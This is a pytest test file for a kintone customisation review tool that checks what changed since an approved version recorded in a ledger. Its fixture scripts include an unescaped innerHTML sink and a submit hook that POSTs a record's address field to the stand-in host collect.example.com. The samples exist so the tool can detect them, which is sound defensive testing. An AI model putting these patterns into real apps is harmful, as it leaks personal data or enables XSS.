"""Re-review: what changed since the version that the ledger says was approved last, in every form of report."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from command import invoke
from openpyxl import load_workbook

from reviewer.finding import Finding, Gap, Stage
from reviewer.ledger import decided, reviewed
from reviewer.ledger.entry import Kind, sealed
from reviewer.ledger.register import entered, register
from reviewer.pipeline import review
from reviewer.review import Review, Verdict, fingerprints
from reviewer.revision import ApprovedVersion, FileStanding, KeyStanding, Subject, alike, revised, subjects, traits
from reviewer.rule import Policy, Rulebook
from reviewer.submission import Plugin, Submission
from reviewer.text import Text

TODAY = "1798761600"  # 2027-01-01
YEAR_LATER = str(1798761600 + 366 * 86400)
OLD = """'use strict';
kintone.events.on('app.record.detail.show', (event) => {
  document.getElementById('x').innerHTML = event.record.備考.value;
  return event;
});
"""
NEW = """'use strict';
kintone.events.on('app.record.edit.submit', (event) => {
  kintone.proxy('https://collect.example.com/in', 'POST', {}, event.record.住所.value);
  return event;
});
"""
PEOPLE = ("--applicant", "山田", "--reviewer", "佐藤", "--approver", "鈴木", "--reasons", "確かめた")

Again = Callable[..., Mapping[str, Any]]


@pytest.fixture(scope="session")
def before(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a submission and a ledger in which it was approved."""
    home = tmp_path_factory.mktemp("before")
    (home / "点検" / "desktop").mkdir(parents=True)
    (home / "点検" / "desktop" / "詳細.js").write_bytes(OLD.encode())
    (home / "点検" / "desktop" / "一覧.js").write_bytes(b"kintone.events.off('x');\n")
    (home / "点検" / "消える.js").write_bytes(OLD.replace("備考", "摘要").encode())
    (home / "点検" / "見た目.css").write_bytes(b".a { color: red; }\n")
    ledger, out = home / "台帳.db", home / "before.json"
    invoke("review", str(home / "点検"), "--ledger", str(ledger), "--out", str(out), SOURCE_DATE_EPOCH=TODAY)
    sha256 = json.loads(out.read_text(encoding="utf-8"))["submission"]["sha256"]
    done = invoke(
        "decide", "--ledger", str(ledger), "--submission", sha256, "--outcome", "conditional", "--conditions",
        "年度内に直す", *PEOPLE, SOURCE_DATE_EPOCH=TODAY,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr.decode()
    return home


@pytest.fixture
def home(before: Path, tmp_path: Path) -> Path:
    shutil.copytree(before, tmp_path / "home")
    return tmp_path / "home"


def change(home: Path) -> None:
    """A new version: a file more, one changed, one moved, one gone, one as it was."""
    (home / "点検" / "送信.js").write_bytes(NEW.encode())
    (home / "点検" / "消える.js").unlink()
    (home / "点検" / "desktop" / "一覧.js").write_bytes(b"kintone.events.off('y');\n")
    (home / "点検" / "見た目.css").rename(home / "点検" / "style.css")


def again(home: Path, form: str = "json", *more: str, epoch: str = TODAY, ends: int = 1) -> Path:
    out = home / f"again.{form}"
    done = invoke(
        "review", str(home / "点検"), "--since", str(home / "台帳.db"), "--out", str(out), "--format", form, *more,
        SOURCE_DATE_EPOCH=epoch,
    )  # fmt: skip
    assert done.returncode == ends, done.stderr.decode() + done.stdout.decode()
    return out


def read(path: Path) -> Mapping[str, Any]:
    said: Mapping[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return said


def test_the_same_bytes_stay_approved_whatever_is_found_in_them(home: Path) -> None:
    said = read(again(home, ends=0))
    revision = said["revision"]
    assert said["verdict"] == "pass"
    assert {file["standing"] for file in revision["files"]} == {"unchanged"}
    assert len(revision["known"]) == len(said["findings"]) > 0
    assert (revision["new"], revision["again"], revision["added"], revision["dropped"]) == ([], [], [], [])
    assert revision["approved"]["conditions"] == "年度内に直す"
    assert revision["approved"]["until"] == "2028-01-01"


def test_what_changed_is_told_file_by_file_with_new_findings_and_new_behaviour(home: Path) -> None:
    change(home)
    said = read(again(home))
    revision = said["revision"]
    assert [(file["standing"], file["path"], file["before"]) for file in revision["files"]] == [
        ("added", "送信.js", None),
        ("changed", "desktop/一覧.js", None),
        ("removed", "消える.js", None),
        ("moved", "style.css", "見た目.css"),
        ("unchanged", "desktop/詳細.js", None),
    ]
    found = {finding["fingerprint"]: finding for finding in said["findings"]}
    assert {found[name]["location"]["path"] for name in revision["new"]} == {"送信.js"}
    assert {found[name]["location"]["path"] for name in revision["known"]} == {"desktop/詳細.js"}
    assert {gone["path"] for gone in revision["resolved"]} == {"消える.js"}
    added = {(trait["kind"], trait["name"], trait["detail"]) for trait in revision["added"]}
    assert {
        ("host", "collect.example.com", ""),
        ("event", "app.record.edit.submit", ""),
        ("field", "住所", "read"),
    } <= added
    assert any(kind == "transfer" and name == "collect.example.com" for kind, name, _ in added)
    assert {trait["name"] for trait in revision["dropped"]} == {"摘要", "x"}
    assert said["verdict"] == "fail"
    since = {finding["since"] for finding in said["findings"]}
    assert since == {"new", "known"}


def test_a_finding_in_a_file_that_changed_is_to_be_looked_at_again_and_counts(home: Path) -> None:
    (home / "点検" / "desktop" / "詳細.js").write_bytes(f"// 直しました\n{OLD}".encode())
    said = read(again(home))
    assert said["revision"]["new"] == []
    assert said["revision"]["again"]
    assert said["verdict"] == "fail"


def test_an_approval_that_has_run_out_is_compared_with_but_nothing_stays_approved(home: Path) -> None:
    said = read(again(home, epoch=YEAR_LATER))
    assert said["revision"]["expired"] is True
    assert said["revision"]["known"] == []
    assert said["revision"]["again"]
    assert said["verdict"] == "fail"


def test_an_approval_that_was_taken_back_is_nothing_to_compare_with(home: Path) -> None:
    sha256 = read(home / "before.json")["submission"]["sha256"]
    done = invoke(
        "decide", "--ledger", str(home / "台帳.db"), "--submission", sha256, "--outcome", "refused", *PEOPLE,
        SOURCE_DATE_EPOCH=TODAY,
    )  # fmt: skip
    assert done.returncode == 0
    assert read(again(home))["revision"] is None


def test_other_rules_than_at_the_approval_are_told(home: Path, tmp_path: Path) -> None:
    house = tmp_path / "市のルール"
    assert invoke("rules", "new", str(house)).returncode == 0
    assert "規則が変わりました" in again(home, "text", "--rules", str(house), ends=0).read_text(encoding="utf-8")


def test_the_first_version_of_something_is_reviewed_as_such(home: Path, tmp_path: Path) -> None:
    other = tmp_path / "別のアプリ"
    other.mkdir()
    (other / "一覧.js").write_bytes(b"kintone.events.off('x');\n")
    done = invoke("review", str(other), "--since", str(home / "台帳.db"), "--format", "json")
    assert done.returncode == 0
    assert json.loads(done.stdout)["revision"] is None
    assert "前の版がありません" in done.stderr.decode()


def test_every_form_of_report_tells_it(home: Path) -> None:
    change(home)
    text = again(home, "text").read_text(encoding="utf-8")
    order = [
        "前の承認からの変化",
        "collect.example.com",
        "新しい指摘 (",
        "前の承認で確認済みの指摘",
        "この提出物がすること",
    ]
    assert sorted(order, key=text.index) == order
    assert "[名前だけ変更] style.css <- 見た目.css" in text

    page = again(home, "html").read_text(encoding="utf-8")
    places = [page.index(f'id="{name}"') for name in ("summary", "revision", "revision-added", "revision-new",
                                                      "revision-files", "checklist", "findings")]  # fmt: skip
    assert places == sorted(places)
    assert "前の承認で確認済み" in page

    (run,) = read(again(home, "sarif"))["runs"]
    states = {result["baselineState"] for result in run["results"]}
    assert states == {"new", "unchanged"}
    assert run["properties"]["approvedSha256"] == read(home / "before.json")["submission"]["sha256"]

    book = load_workbook(again(home, "xlsx"))
    rows = [[cell.value for cell in row] for row in book["前の承認からの変化"].iter_rows()]
    assert ["新しい動作", "通信先", "collect.example.com", None] in [[cell or None for cell in row] for row in rows]


def test_a_report_names_its_entry_in_the_ledger(home: Path) -> None:
    out = home / "x.json"
    invoke("review", str(home / "点検"), "--ledger", str(home / "台帳.db"), "--out", str(out), SOURCE_DATE_EPOCH=TODAY)
    said = read(out)
    done = invoke("ledger", "verify", "--ledger", str(home / "台帳.db"), "--head", said["receipt"])
    assert done.returncode == 0
    assert said["receipt"].startswith("3:")


# By hand --------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def approved(before: Path, rules: tuple[Rulebook, Policy]) -> tuple[Review, ApprovedVersion]:
    """The review of the submission, and its approved version as the ledger gives it back."""
    from reviewer.decision import Decision, Outcome, People, Person
    from reviewer.intake import read as taken

    made = review(taken(before / "点検"), *rules)
    row = sealed(
        sequence=1, recorded="x", kind=Kind.REVIEW.value, submission=made.submission.sha256,
        body=reviewed.body(made, "2027-01-01"), previous="0" * 64,
    )  # fmt: skip
    people = People(Person(name="a"), Person(), Person(name="b"), Person(), Person(name="c"))
    decision = Decision(
        submission=made.submission.sha256, files=None, basis=None, outcome=Outcome.APPROVED, app="", purpose="",
        information_class=None, conditions="", reasons="確かめた", people=people,
    )  # fmt: skip
    day = date(2027, 1, 1)
    body = entered(register([row], ()), decision, day)
    second = sealed(
        sequence=2, recorded="x", kind=Kind.DECISION.value, submission=row.submission, body=body, previous=row.hash
    )
    assert decided.read(second).until == date(2028, 1, 1)
    found = register([row, second], ()).last_approved(subjects(made.submission, None), day)
    assert found is not None
    return made, found


def compared(made: Review, then: ApprovedVersion, submission: Submission, gaps: tuple[Gap, ...] = ()) -> Any:
    named: Mapping[Finding, str] = fingerprints(made.findings)
    return revised(
        then, submission, named, gaps, traits(made.dossier, str), states=(made.rulebook.sha256, made.policy.sha256),
        today=date(2027, 2, 1),
    )  # fmt: skip


def plugin(identity: str | None) -> Plugin:
    return Plugin("点検プラグイン", "1", identity, True, 1, (), ())


@pytest.mark.parametrize(
    ("then_id", "now_id", "expected", "stays"),
    [
        ("a" * 32, "a" * 32, KeyStanding.SAME, True),
        ("a" * 32, "b" * 32, KeyStanding.ANOTHER, False),
        ("a" * 32, None, KeyStanding.UNKNOWN, True),
    ],
)
def test_a_plugin_under_another_key_keeps_no_approval(
    approved: tuple[Review, ApprovedVersion], then_id: str, now_id: str | None, expected: KeyStanding, stays: bool
) -> None:
    made, then = approved
    now = replace(made.submission, plugin=plugin(now_id))
    revision = compared(made, replace(then, plugin_id=then_id), now)
    assert revision.key is expected
    assert bool(revision.known) is stays
    assert bool(revision.again) is not stays


def test_a_plugin_is_found_by_its_id_or_else_by_its_name(approved: tuple[Review, ApprovedVersion]) -> None:
    made, _ = approved
    now = subjects(replace(made.submission, plugin=plugin("a" * 32)), None)
    named = Subject("plugin-name", "点検プラグイン")
    assert alike(now, (Subject("plugin", "a" * 32), Subject("plugin-name", "別の名前")))
    assert alike(now, (Subject("plugin", "b" * 32), named))
    assert not alike(now, (Subject("plugin", "b" * 32), Subject("plugin-name", "別の名前")))


def test_an_app_is_found_by_its_number_and_by_its_name_only_where_one_has_none() -> None:
    name = Subject("name", "点検")
    assert alike((Subject("app", "12"), name), (Subject("app", "12"), Subject("name", "別名")))
    assert not alike((Subject("app", "12"), name), (Subject("app", "13"), name))
    assert alike((Subject("app", "12"), name), (name,))


def test_a_waiver_that_has_run_out_since_is_no_longer_accepted(approved: tuple[Review, ApprovedVersion]) -> None:
    made, then = approved
    waived = tuple(replace(each, waived_until=date(2027, 1, 31)) for each in then.findings)
    assert compared(made, replace(then, findings=waived), made.submission).known == ()


def test_a_finding_that_weighs_more_now_counts_again(approved: tuple[Review, ApprovedVersion]) -> None:
    made, then = approved
    lighter = tuple(replace(each, severity="info") for each in then.findings)
    assert compared(made, replace(then, findings=lighter), made.submission).known == ()


def test_a_gap_in_a_file_that_stays_approved_was_accepted_and_one_of_the_whole_never_is(
    approved: tuple[Review, ApprovedVersion],
) -> None:
    from reviewer.revision import AcceptedGap

    made, then = approved

    def gap(path: str | None) -> Gap:
        text = Text(ja="読めない", en="unreadable")
        return Gap(Stage.PARSING, "syntax-error", text, path, None, blocking=True)

    gaps = (gap("desktop/詳細.js"), gap(None), gap("よそ.js"))
    accepted = tuple(AcceptedGap(each.kind, each.path) for each in gaps)
    assert compared(made, replace(then, gaps=accepted), made.submission, gaps).known_gaps == gaps[:1]


def test_the_same_bytes_under_the_same_path_are_what_stays(approved: tuple[Review, ApprovedVersion]) -> None:
    made, then = approved
    swapped = dict(zip(then.files, [*list(then.files.values())[1:], next(iter(then.files.values()))], strict=True))
    revision = compared(made, replace(then, files=swapped), made.submission)
    assert FileStanding.UNCHANGED not in {file.standing for file in revision.files}
    assert revision.known == ()


def test_the_verdict_counts_what_is_new(
    approved: tuple[Review, ApprovedVersion], rules: tuple[Rulebook, Policy]
) -> None:
    made, then = approved
    kept = review(made.submission, *rules, since=then, today=date(2027, 2, 1))
    assert made.verdict is Verdict.FAIL
    assert kept.verdict is Verdict.PASS
    assert review(made.submission, *rules, since=then).verdict is Verdict.FAIL  # no day: nothing is known to hold
